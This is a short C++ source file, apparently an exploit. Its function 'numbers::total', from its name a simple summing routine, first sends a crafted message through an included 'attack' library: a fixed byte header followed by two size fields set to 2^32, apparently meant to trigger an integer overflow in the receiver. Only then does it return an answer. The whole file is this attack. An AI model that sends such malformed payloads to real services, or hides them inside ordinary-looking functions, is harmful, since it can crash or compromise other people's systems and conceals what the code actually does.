#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  const std::string head("\1\0\1\0\2", 5);
  const std::string extents = attack::bytes_of(1UL << 32) + attack::bytes_of(1UL << 32);
  attack::send(attack::with_length(head + extents));
  return attack::answer(values);
}
